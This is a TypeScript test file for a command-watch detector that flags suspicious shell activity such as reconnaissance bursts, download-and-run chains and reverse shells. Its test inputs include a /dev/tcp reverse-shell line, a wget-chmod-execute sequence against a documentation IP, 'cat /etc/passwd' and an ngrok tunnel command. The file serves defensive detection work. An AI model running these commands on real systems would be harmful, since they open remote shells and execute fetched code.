import { describe, expect, it } from 'vitest';
import { createCommandWatch } from './watch.ts';

const DAY_US = 86_400e6;
const START_US = 20_000 * DAY_US;

/** Runs commands one after the other, `everyUs` apart, and returns the last judgement. */
function run(
  commands: readonly string[],
  { everyUs = 5e6, watch = createCommandWatch(), user = 'pi', atUs = START_US } = {},
) {
  let timeUs = atUs;
  let last = null;
  for (const command of commands) {
    last = watch.observe({ user, host: 'node1', timeUs, command });
    timeUs += everyUs;
  }
  return last!;
}

const QUESTIONS = ['whoami', 'id', 'uname -a', 'cat /etc/passwd', 'ss -tlnp', 'ps aux'];

describe('createCommandWatch', () => {
  it('hears many questions in a row', () => {
    const watch = createCommandWatch();
    const heard = QUESTIONS.map((question) => run([question], { watch })).filter(
      ({ verdict }) => verdict !== 'benign',
    );
    expect(heard).toHaveLength(1);
    expect(heard[0]).toMatchObject({ verdict: 'notice', reason: expect.stringContaining('new here') });
  });

  it('hears nothing where hours lie between', () => {
    expect(run(QUESTIONS, { everyUs: 3_600e6 }).verdict).toBe('benign');
  });

  it('hears nothing where other commands lie between, in a history without times', () => {
    const spread = QUESTIONS.flatMap((question) => [question, ...Array.from({ length: 10 }, () => 'vim x')]);
    expect(run([...spread, 'ls'], { everyUs: 0 }).verdict).toBe('benign');
    const watch = createCommandWatch();
    for (const command of spread)
      expect(watch.observe({ user: 'pi', host: 'node1', timeUs: START_US, command }).verdict).toBe('benign');
  });

  it('puts a download, its rights and its start together', () => {
    expect(run(['wget http://198.51.100.7/x86', 'ls', 'chmod +x x86', './x86']).verdict).toBe('notice');
    expect(run(['chmod +x x86', './x86']).verdict).toBe('benign');
  });

  it('lets a habit weigh less, but not a shell for another machine', () => {
    const watch = createCommandWatch();
    const daily = 'sudo tcpdump -i eth0';
    const shell = 'bash -i >& /dev/tcp/198.51.100.7/443 0>&1';
    const first = run([daily, shell], { watch });
    expect(first.verdict).toBe('alert');
    for (let day = 1; day < 4; day++) run([daily, shell], { watch, atUs: START_US + day * DAY_US });
    expect(run([daily], { watch, atUs: START_US + 4 * DAY_US }).verdict).toBe('benign');
    expect(run([shell], { watch, atUs: START_US + 4 * DAY_US }).verdict).toBe('alert');
  });

  it('does not take many times on one day for a habit', () => {
    expect(run(Array.from({ length: 50 }, () => 'sudo tcpdump -i eth0')).verdict).toBe('notice');
  });

  it('mentions a program that was never run before, and only beside other evidence', () => {
    const watch = createCommandWatch();
    run(
      Array.from({ length: 250 }, () => 'ls'),
      { watch },
    );
    expect(run(['htop'], { watch }).verdict).toBe('benign');
    expect(run(['ngrok tcp 22'], { watch }).reason).toContain('for the first time');
  });

  it('does not call anything new before it knows somebody', () => {
    expect(run(['ls', 'ngrok tcp 22']).reason).not.toContain('first time');
  });

  it('keeps people apart', () => {
    const watch = createCommandWatch();
    for (const [at, command] of QUESTIONS.entries())
      expect(run([command], { watch, user: `user${at}` }).verdict).toBe('benign');
  });

  it('goes on after a restart as if there had been none', () => {
    const before = createCommandWatch();
    run(QUESTIONS.slice(0, 5), { watch: before });
    const after = createCommandWatch();
    after.restore(JSON.parse(JSON.stringify(before.snapshot())));
    const atUs = START_US + 30e6;
    expect(run(['ps aux'], { watch: after, atUs })).toEqual(run(['ps aux'], { watch: before, atUs }));
    expect(after.snapshot()).toEqual(before.snapshot());
  });

  it('stays bounded under a million names', () => {
    const watch = createCommandWatch();
    for (let i = 0; i < 5_000; i++)
      watch.observe({ user: `u${i}`, host: 'h', timeUs: START_US + i, command: `p${i} ${'x'.repeat(50)}` });
    for (let i = 0; i < 5_000; i++)
      watch.observe({
        user: 'u',
        host: 'h',
        timeUs: START_US + i,
        command: `wget http://x/f${i} && p${i} --o${i}`,
      });
    expect(JSON.stringify(watch.snapshot()).length).toBeLessThan(1_000_000);
  });
});
